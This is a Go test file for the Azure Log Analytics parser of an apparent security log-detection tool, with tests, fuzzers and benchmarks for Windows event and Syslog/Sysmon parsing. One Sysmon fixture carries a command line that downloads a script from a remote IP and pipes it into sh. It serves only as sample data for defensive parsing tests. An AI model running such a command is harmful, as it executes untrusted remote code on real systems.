package parse

import (
	"encoding/json"
	"fmt"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/google/go-cmp/cmp"

	"github.com/vigilsec/vigil/internal/event"
	"github.com/vigilsec/vigil/internal/ingest"
)

// jsonRow renders a Log Analytics row as its JSON export does.
func jsonRow(t testing.TB, row map[string]any) string {
	t.Helper()
	b, err := json.Marshal(row)
	if err != nil {
		t.Fatal(err)
	}
	return string(b)
}

// packedJSON renders a dynamic column as the JSON text exports hold.
func packedJSON(t testing.TB, v map[string]any) string { return jsonRow(t, v) }

func TestAzureTime(t *testing.T) {
	p := New(Options{})
	tests := []struct {
		name string
		row  map[string]any
		want time.Time
	}{
		{"TimeGenerated only", map[string]any{"msg": "x", "TimeGenerated": "2026-11-20T10:00:00.5Z"}, time.Date(2026, 11, 20, 10, 0, 0, 5e8, time.UTC)},
		{"@timestamp wins", map[string]any{"@timestamp": "2026-11-20T09:00:00Z", "TimeGenerated": "2026-11-20T10:00:00Z"}, time.Date(2026, 11, 20, 9, 0, 0, 0, time.UTC)},
		{"TimeCreated wins", map[string]any{"Channel": "Security", "EventID": 4624, "TimeGenerated": "2026-11-20T10:00:00Z", "TimeCreated": "2026-11-20T09:59:58Z"}, time.Date(2026, 11, 20, 9, 59, 58, 0, time.UTC)},
		{"Windows row with TimeGenerated only", map[string]any{"Channel": "Security", "EventID": 4624, "TimeGenerated": "2026-11-20T10:00:00Z"}, time.Date(2026, 11, 20, 10, 0, 0, 0, time.UTC)},
		{"Syslog EventTime wins", map[string]any{"SyslogMessage": "hello", "EventTime": "2026-11-20T09:00:00Z", "TimeGenerated": "2026-11-20T10:00:00Z"}, time.Date(2026, 11, 20, 9, 0, 0, 0, time.UTC)},
		{"Syslog TimeGenerated", map[string]any{"SyslogMessage": "hello", "TimeGenerated": "2026-11-20T10:00:00Z"}, time.Date(2026, 11, 20, 10, 0, 0, 0, time.UTC)},
		{"unreadable TimeGenerated", map[string]any{"msg": "x", "TimeGenerated": "yesterday"}, testReceived},
		{"none", map[string]any{"msg": "x"}, testReceived},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			ev := parseLine(t, p, jsonRow(t, tt.row))
			if !ev.Time.Equal(tt.want) {
				t.Errorf("got time %v, want %v", ev.Time, tt.want)
			}
		})
	}
}

func TestAzurePackedEventData(t *testing.T) {
	p := New(Options{})
	xml := func(data string) string {
		return `<EventData xmlns="http://schemas.microsoft.com/win/2004/08/events/event">` + data + `</EventData>`
	}
	tests := []struct {
		name   string
		row    map[string]any
		want   map[string][]string
		tagged bool // parse_error
	}{
		{
			name: "JSON text",
			row: map[string]any{"Channel": "Security", "EventID": 4624, "Type": "WindowsEvent",
				"EventData": packedJSON(t, map[string]any{"TargetUserName": "bob", "LogonType": "3", "Nested": map[string]any{"A": 1}})},
			want: map[string][]string{"TargetUserName": {"bob"}, "LogonType": {"3"}, "Nested.A": {"1"}, "EventData": nil},
		},
		{
			name: "JSON text, damaged, is kept",
			row:  map[string]any{"Channel": "Security", "EventID": 4624, "EventData": `{"TargetUserName":"bo`},
			want: map[string][]string{"EventData": {`{"TargetUserName":"bo`}, "TargetUserName": nil},
		},
		{
			name: "JSON object",
			row:  map[string]any{"Channel": "Security", "EventID": 4624, "EventData": map[string]any{"TargetUserName": "bob"}},
			want: map[string][]string{"TargetUserName": {"bob"}, "EventData.TargetUserName": {"bob"}},
		},
		{
			name: "XML fills what the columns lack",
			row: map[string]any{"Channel": "Security", "EventID": 4688, "Type": "SecurityEvent", "CommandLine": "whoami",
				"EventData": xml(`<Data Name="CommandLine">other</Data><Data Name="ParentProcessName">C:\x.exe</Data><Data Name="Empty"></Data><Data Name="Self"/><Data Name="Esc">a&amp;b&#x41;</Data>`)},
			want: map[string][]string{"CommandLine": {"whoami"}, "ParentProcessName": {`C:\x.exe`}, "Empty": {""}, "Self": {""}, "Esc": {"a&bA"}, "EventData": nil},
		},
		{
			name: "SecurityEvent drops the columns the event lacks",
			row: map[string]any{"Channel": "Security", "EventID": 4624, "Type": "SecurityEvent", "CommandLine": "", "LogonGuid": nil,
				"IpAddress": "-", "TargetOutboundUserName": "", "LogonType": 3,
				"EventData": xml(`<Data Name="TargetOutboundUserName"></Data><Data Name="IpAddress">-</Data><Data Name="LogonType">3</Data>`)},
			want: map[string][]string{"CommandLine": nil, "LogonGuid": nil, "IpAddress": {"-"}, "TargetOutboundUserName": {""}, "LogonType": {"3"}},
		},
		{
			name: "WindowsEvent keeps empty columns",
			row:  map[string]any{"Channel": "Security", "EventID": 4624, "Type": "WindowsEvent", "Data": "", "EventData": packedJSON(t, map[string]any{"A": ""})},
			want: map[string][]string{"Data": {""}, "A": {""}},
		},
		{
			name: "XML unnamed Data repeats",
			row:  map[string]any{"Channel": "Application", "EventID": 1000, "EventData": xml(`<Data>one</Data><Data>two</Data>`)},
			want: map[string][]string{"Data": {"one", "two"}},
		},
		{
			name: "XML cut short keeps complete values only",
			row:  map[string]any{"Channel": "Security", "EventID": 4688, "EventData": `<EventData><Data Name="A">1</Data><Data Name="B">partial val`},
			want: map[string][]string{"A": {"1"}, "B": nil, "EventData": nil},
		},
		{
			name: "XML without Data is kept",
			row:  map[string]any{"Channel": "Security", "EventID": 4688, "EventData": `<Other/>`},
			want: map[string][]string{"EventData": {`<Other/>`}},
		},
		{
			name: "System columns get evtx names",
			row: map[string]any{"Channel": "Security", "EventID": 4624, "EventLevel": 4, "EventRecordId": "77", "SystemProcessId": 640,
				"SystemThreadId": 700, "SystemUserId": "S-1-5-18", "Level": "8"},
			want: map[string][]string{"Level": {"8"}, "EventRecordID": {"77"}, "ProcessID": {"640"}, "ThreadID": {"700"}, "Security_UserID": {"S-1-5-18"}},
		},
		{
			name: "SecurityEvent without Channel",
			row:  map[string]any{"Type": "SecurityEvent", "EventID": 4625, "EventSourceName": "Microsoft-Windows-Security-Auditing", "TargetUserName": "bob"},
			want: map[string][]string{"Channel": {"Security"}, "Provider_Name": {"Microsoft-Windows-Security-Auditing"}, "winlog.channel": {"Security"}},
		},
		{
			name: "Event row",
			row: map[string]any{"Type": "Event", "EventID": 7036, "EventLog": "System", "Source": "Service Control Manager",
				"RenderedDescription": "The X service entered the running state.", "EventData": `<DataItem><EventData><Data Name="param1">X</Data></EventData></DataItem>`},
			want: map[string][]string{"Channel": {"System"}, "Provider_Name": {"Service Control Manager"}, "message": {"The X service entered the running state."}, "param1": {"X"}},
		},
		{
			name: "Event row without EventLog stays a document",
			row:  map[string]any{"Type": "Event", "EventID": 7036},
			want: map[string][]string{"Channel": nil, "Type": {"Event"}},
		},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			ev := parseLine(t, p, jsonRow(t, tt.row))
			if got := ev.HasTag(event.TagParseError); got != tt.tagged {
				t.Errorf("got parse_error %v, want %v", got, tt.tagged)
			}
			for name, want := range tt.want {
				if diff := cmp.Diff(want, values(ev, name)); diff != "" {
					t.Errorf("%s (-want +got):\n%s", name, diff)
				}
			}
		})
	}
}

// TestAzurePackedFieldLimit: a packed EventData with more members than
// the field limit is cut there and tagged truncated.
func TestAzurePackedFieldLimit(t *testing.T) {
	const limit = 64
	p := New(Options{MaxFields: limit})
	data := map[string]any{}
	for i := range 500 {
		data[fmt.Sprintf("F%03d", i)] = "v"
	}
	var xb strings.Builder
	for i := range 500 {
		fmt.Fprintf(&xb, `<Data Name="X%03d">v</Data>`, i)
	}
	for _, packed := range []string{packedJSON(t, data), "<EventData>" + xb.String() + "</EventData>"} {
		ev := parseLine(t, p, jsonRow(t, map[string]any{"Channel": "Security", "EventID": 1, "EventData": packed}))
		if !ev.HasTag(event.TagTruncated) {
			t.Errorf("%.20s...: not tagged truncated", packed)
		}
		if n := len(ev.Fields); n > limit+2 {
			t.Errorf("%.20s...: got %d fields, want at most %d", packed, n, limit+2)
		}
	}
}

func TestAzureSyslog(t *testing.T) {
	p := New(Options{})
	sysmon := `<Event><System><Provider Name="Linux-Sysmon" Guid="{ff032593-a8d3-4f13-b0d6-01fc615a0f97}"/><EventID>1</EventID><TimeCreated SystemTime="2026-11-20T12:00:09.5Z"/><Execution ProcessID="3270" ThreadID="3270"/><Channel>Linux-Sysmon/Operational</Channel><Computer>lnx01</Computer></System><EventData><Data Name="ProcessId">4720</Data><Data Name="Image">/usr/bin/curl</Data><Data Name="CommandLine">curl -s http://198.51.100.7/x | sh</Data><Data Name="CurrentDirectory">/tmp</Data></EventData></Event>`
	tests := []struct {
		name   string
		row    map[string]any
		ls     event.Logsource
		want   map[string][]string
		tagged bool
	}{
		{
			name: "Sysmon for Linux",
			row:  map[string]any{"Computer": "lnx01.corp", "ProcessName": "sysmon", "ProcessID": 3270, "Facility": "user", "SeverityLevel": "info", "SyslogMessage": sysmon},
			ls:   event.Logsource{Product: "linux", Service: "sysmon"},
			want: map[string][]string{"Image": {"/usr/bin/curl"}, "Computer": {"lnx01"}, "ProcessID": {"3270"}, "host.name": {"lnx01.corp"},
				"process.pid": {"3270"}, "log.syslog.appname": {"sysmon"}, "log.syslog.facility.code": {"1"}, "log.syslog.severity.code": {"6"}},
		},
		{
			// Log Analytics cuts long messages (2,048 bytes by default):
			// the complete values stay, the cut one is not invented.
			name: "Sysmon for Linux cut in a value",
			row:  map[string]any{"Computer": "lnx01", "SyslogMessage": sysmon[:strings.Index(sysmon, "| sh")]},
			ls:   event.Logsource{Product: "linux", Service: "sysmon"},
			want: map[string][]string{"Image": {"/usr/bin/curl"}, "CommandLine": nil, "host.name": {"lnx01"}},
		},
		{
			name:   "Sysmon for Linux cut in a tag",
			row:    map[string]any{"Computer": "lnx01", "SyslogMessage": sysmon[:strings.Index(sysmon, `Name="CommandLine"`)]},
			ls:     event.Logsource{Product: "linux", Service: "sysmon"},
			want:   map[string][]string{"Image": {"/usr/bin/curl"}, "CommandLine": nil},
			tagged: true,
		},
		{
			name: "sudo",
			row:  map[string]any{"HostName": "lnx02", "ProcessName": "sudo", "Facility": "authpriv", "SeverityLevel": "notice", "SyslogMessage": "    alice : TTY=pts/0 ; PWD=/home/alice ; USER=root ; COMMAND=/usr/bin/id\n"},
			ls:   event.Logsource{Product: "linux", Service: "sudo"},
			want: map[string][]string{"host.name": {"lnx02"}, "COMMAND": {"/usr/bin/id"}, "user.name": {"alice"}, "log.syslog.severity.code": {"5"}},
		},
		{
			name: "unknown program and names",
			row:  map[string]any{"ProcessName": "myapp", "Facility": "local9", "SeverityLevel": "loud", "ProcessID": "abc", "SyslogMessage": "started"},
			ls:   event.Logsource{Product: "linux"},
			want: map[string][]string{"message": {"started"}, "log.syslog.facility.name": {"local9"}, "log.syslog.facility.code": nil,
				"log.syslog.severity.code": nil, "process.pid": {"abc"}},
		},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			ev := parseLine(t, p, jsonRow(t, tt.row))
			if got := ev.HasTag(event.TagParseError); got != tt.tagged {
				t.Errorf("got parse_error %v, want %v", got, tt.tagged)
			}
			if ev.Logsource != tt.ls {
				t.Errorf("got logsource %+v, want %+v", ev.Logsource, tt.ls)
			}
			for name, want := range tt.want {
				if diff := cmp.Diff(want, values(ev, name)); diff != "" {
					t.Errorf("%s (-want +got):\n%s", name, diff)
				}
			}
		})
	}
}

// seedRealworld adds the records of testdata/realworld.
func seedRealworld(f *testing.F) {
	ins, err := filepath.Glob(filepath.Join("testdata", "realworld", "*.input"))
	if err != nil || len(ins) == 0 {
		f.Fatalf("no realworld records: %v", err)
	}
	for _, in := range ins {
		data, err := os.ReadFile(in)
		if err != nil {
			f.Fatal(err)
		}
		f.Add(data)
	}
}

func FuzzAzureRow(f *testing.F) {
	seedRealworld(f)
	f.Add([]byte(`{"Type":"Event","EventID":1,"EventLog":"System","EventData":"<DataItem><EventData><Data>x</Data>"}`))
	f.Add([]byte(`{"Type":"SecurityEvent","EventID":"x","EventData":{"A":[1,{"B":null}]}}`))
	f.Add([]byte(`{"SyslogMessage":"<Event><System></System>","ProcessID":null,"Facility":7,"TimeGenerated":1}`))
	f.Fuzz(func(t *testing.T, data []byte) { checkParse(t, data, ingest.FormatJSON) })
}

// FuzzAzurePacked puts the fuzzed text where Log Analytics packs a whole
// event: a WindowsEvent's EventData and a Syslog row's SyslogMessage.
func FuzzAzurePacked(f *testing.F) {
	f.Add(`{"TargetUserName":"bob","N":{"A":1}}`)
	f.Add(`<EventData><Data Name="A">1</Data><Data>x</Data><Data Name="B"/></EventData>`)
	f.Add(`<DataItem><EventData><Data Name="A">&amp;&#x41;</Data`)
	f.Add(`<Event><System><EventID>1</EventID><Channel>Linux-Sysmon/Operational</Channel></System><EventData><Data Name="Image">/bin/sh</Data></EventData></Event>`)
	f.Add(`type=AUOMS_EXECVE audit(1.1:1): pid=1 cmdline="a "b"" containerid=`)
	f.Fuzz(func(t *testing.T, s string) {
		for _, row := range []map[string]any{
			{"Channel": "Security", "EventID": 4688, "Type": "WindowsEvent", "EventData": s},
			{"Type": "Event", "EventID": 1, "EventLog": "System", "EventData": s},
			{"Computer": "h", "ProcessName": "sysmon", "SyslogMessage": s},
		} {
			checkParse(t, []byte(jsonRow(t, row)), ingest.FormatJSON)
		}
	})
}

// benchRealworld benchmarks the record of testdata/realworld/<name>.input.
func benchRealworld(b *testing.B, name string) {
	data, err := os.ReadFile(filepath.Join("testdata", "realworld", name+".input"))
	if err != nil {
		b.Fatal(err)
	}
	benchParse(b, strings.TrimSuffix(string(data), "\n"), ingest.FormatAuto)
}

func BenchmarkParseAzureWindowsEvent(b *testing.B) {
	benchRealworld(b, "azure_windowsevent_sysmon_1")
}
func BenchmarkParseAzureSecurityEvent(b *testing.B) { benchRealworld(b, "azure_securityevent_4688") }
func BenchmarkParseAzureSyslogSysmon(b *testing.B)  { benchRealworld(b, "azure_syslog_sysmon_linux_1") }
func BenchmarkParseAuomsExecve(b *testing.B)        { benchRealworld(b, "syslog_auoms_execve") }
